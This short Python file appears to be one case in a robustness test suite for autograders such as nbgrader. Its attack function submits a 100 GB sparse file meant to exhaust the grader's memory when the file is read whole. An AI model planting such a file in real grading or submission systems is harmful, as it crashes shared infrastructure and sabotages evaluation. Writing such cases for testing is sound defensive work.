"""Hands in a sparse file of a hundred gigabytes.

Would fill the grader's memory where it is read as a whole.

Plain nbgrader: not tried.
"""

import os


def attack(folder, places):
    with open(folder / "data.bin", "wb") as file:
        os.truncate(file.fileno(), 100 * 2**30)
